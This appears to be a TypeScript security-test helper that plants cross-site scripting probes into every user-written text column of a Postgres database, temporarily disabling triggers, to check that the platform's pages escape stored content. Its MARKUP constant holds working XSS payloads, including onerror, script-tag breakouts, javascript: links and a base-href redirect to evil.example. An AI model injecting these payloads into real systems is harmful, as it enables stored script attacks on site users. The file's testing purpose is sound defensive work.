// Plants markup that would run in every text of the database that people write, past all validation: what the pages make
// of it is then up to the pages alone. A new column has to be told to be one of either kind.
import postgres from 'postgres';
import { createSeal } from '../../server/seal.ts';

/** The shortest comes first, because many fields are short. */
export const MARKUP = [
  `"'><img src=x onerror=__pwned=1>`,
  `</title></textarea></script><script>__pwned=1</script><svg/onload=__pwned=1>`,
  `<a href="javascript:__pwned=1">x</a><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<base href="//evil.example/"><style>@import'//evil.example'</style>[x](javascript:__pwned=1) {{7*7}} \${__pwned=1}`,
].join('');

/** What people, companies, payers or providers write. `table.column` */
const WRITTEN = `
  assignment_answers.reason attendees.name audit_log.before audit_log.after audit_log.reason bookings.cancellation_reason
  bookings.special_requirements certificates.recipient_name certificates.content certificates.revoked_reason
  corporate_quotes.lines corporate_quotes.note corporate_quotes.answer_note
  corporate_requests.company_name corporate_requests.contact_person corporate_requests.topic corporate_requests.preferred_time
  corporate_requests.location corporate_requests.notes corporate_requests.admin_notes corporate_requests.purchase_order
  corporate_requests.invoice_paid_reference courses.title courses.description courses.syllabus courses.taught_in
  courses.prerequisites courses.bring courses.image development_mailbox.subject development_mailbox.text_body
  imports.file imports.bad_lines logins.user_agent messages.error notifications.title notifications.body passkeys.name
  payment_webhooks.processing_error payments.failure_reason payments.failure_code payments.attention
  payments.provider_transaction_id provider_calls.code provider_calls.detail receipts.reason receipts.account
  receipts.provider_transaction_id refunds.reason refunds.provider_reference refunds.attention refunds.failure_reason
  review_reports.reason reviews.comment reviews.reply reviews.hidden_reason saved_views.name sessions.location sessions.room
  sessions.notes sessions.cancellation_reason trainer_days_off.note trainers.name trainers.bio trainers.photo
  trainers.specializations trainers.certifications users.name vouchers.note waitlist_entries.end_reason`
  .trim()
  .split(/\s+/);

/** Words of our own, checked formats, and what is kept for machines. */
const OURS = [
  /_hash(es)?$|_sha256$|_secret$|^password|_token$|^token$/,
  /\.(kind|status|payment_status|currency|locale|timezone|provider|code|channel|topic|machine|from_state|to_state|operation|outcome|source)$/,
  /\.(email|phone|payer_phone|contact_phone|recipient|number|reference|media_type|doubt|cause|answer|revoked_reason)$/,
  /^(documents|corporate_purchase_orders|idempotency_keys|signing_keys|totp_secrets|proof_challenges|calendar_feeds)\./,
  /^(course_interests|exports|document_counters|events|events_rest|provider_asks|payment_webhooks|reconciliations)\./,
  /^(messages|consents|saved_views|courses|course_words|integrity_checks)\./,
  /\.(object_type|action|request_id|account|tax_name|list|query|scope|role|category|audience|headline|link|key)$/,
  /\.(image_variants|photo_variants|preferred_dates|transports|credential_id|public_key|html_body|calendar)$/,
  /^payments\.(payment_reference|provider_response|provider_ids|metadata)$|^refunds\.provider_ids$/,
];

type Column = { table: string; column: string; type: string };

/** Columns of text that nobody has said anything about. */
export async function untoldColumns(url: string): Promise<string[]> {
  const sql = postgres(url, { max: 1, onnotice: () => undefined });
  try {
    return (await textColumns(sql))
      .map(({ table, column }) => `${table}.${column}`)
      .filter((name) => !WRITTEN.includes(name) && !OURS.some((pattern) => pattern.test(name)));
  } finally {
    await sql.end();
  }
}

function textColumns(sql: postgres.Sql) {
  return sql<Column[]>`
    select c.table_name as table, c.column_name as column, c.data_type as type
    from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
    where table_schema = 'public' and t.table_type = 'BASE TABLE' and is_generated = 'NEVER'
      and data_type in ('text', 'jsonb', 'ARRAY') and c.table_name not like 'schema_%' and c.table_name not like 'events_%'
      and c.table_name not in ('state_transitions', 'rate_limits')
    order by 1, 2`;
}

/**
 * @param keys DATA_KEYS of the platform, for columns that are sealed
 * @param texts other texts than the markup, by turns
 * @returns columns that now hold it, and those whose own rules refuse it
 */
export async function plantMarkup(
  url: string,
  keys: string,
  texts: readonly string[] = [MARKUP],
): Promise<{ holding: string[]; refusing: string[] }> {
  const sql = postgres(url, { max: 1, onnotice: () => undefined });
  const seal = createSeal(keys, 'not looked up by');
  const [holding, refusing]: [string[], string[]] = [[], []];
  try {
    for (const column of await textColumns(sql)) {
      const name = `${column.table}.${column.column}`;
      if (!WRITTEN.includes(name)) continue;
      const rows = await fill(sql, column, seal, texts);
      if (rows === null) refusing.push(name);
      else if (rows > 0) holding.push(name);
    }
    return { holding, refusing };
  } finally {
    await sql.end();
  }
}

/** How many rows hold it now; null when the database refuses it at any length. */
async function fill(
  sql: postgres.Sql,
  { table, column, type }: Column,
  seal: ReturnType<typeof createSeal>,
  texts: readonly string[],
): Promise<number | null> {
  const target = sql(column);
  const rows = await sql<{ place: string; value: unknown }[]>`
    select ctid::text as place, ${target} as value from ${sql(table)} where ${target} is not null limit 2000`;
  for (const length of [1_000, 180, 90, 50]) {
    const changed = rows.map(({ place, value }, number) => ({
      place,
      value: text(planted(value, texts[number % texts.length]!.slice(0, length), number, seal)),
    }));
    try {
      await sql.begin(async (tx) => {
        // Triggers would refuse to rewrite history; the rules of the column itself still count.
        await tx`alter table ${tx(table)} disable trigger user`;
        await tx`
          update ${tx(table)} t set ${tx(column)} = made.value::${tx.unsafe(type)}
          from unnest(${changed.map(({ place }) => place)}::text[], ${changed.map(({ value }) => value)}::text[]) as made (place, value)
          where t.ctid = made.place::tid`;
        await tx`alter table ${tx(table)} enable trigger user`;
      });
      return rows.length;
    } catch (error) {
      if (!['23514', '22001'].includes((error as postgres.PostgresError).code)) throw error;
    }
  }
  return null;
}

const text = (value: unknown) => (typeof value === 'string' ? value : JSON.stringify(value));

/** In place of a text, or of the texts in a list or an object that are sentences and not dates, names of zones or ids. */
function planted(
  value: unknown,
  markup: string,
  number: number,
  seal: ReturnType<typeof createSeal>,
  top = true,
): unknown {
  if (typeof value === 'string') {
    if (/^\w{1,16}\.[\w-]{38,}$/.test(value)) return seal.close(markup);
    if (top) return `${markup}${number}`;
    return /^[\d:.TZ+-]+$|^[a-z_]+$|^[A-Z]{3}$|^[\w-]+\/[\w-]+$|^[0-9a-f-]{36}$|^https?:/.test(value)
      ? value
      : `${markup}${number}`;
  }
  if (Array.isArray(value)) return value.map((one) => planted(one, markup, number, seal, false));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, one]) => [key, planted(one, markup, number, seal, false)]),
  );
}
